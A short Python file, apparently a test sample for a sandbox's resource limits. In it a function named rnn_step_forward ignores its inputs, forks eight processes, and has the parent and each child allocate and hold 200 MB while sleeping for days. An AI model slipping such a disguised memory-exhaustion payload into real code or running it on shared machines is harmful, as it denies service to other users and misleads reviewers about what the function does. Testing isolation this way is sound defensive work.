# Eight forks that each allocate a moderate amount: only a limit on the whole tree stops them.
import os
import time


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    for _ in range(8):
        if os.fork() == 0:
            block = bytearray(200 * 1024 * 1024)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(10**6)
    block = bytearray(200 * 1024 * 1024)
    for i in range(0, len(block), 4096):
        block[i] = 1
    time.sleep(10**6)
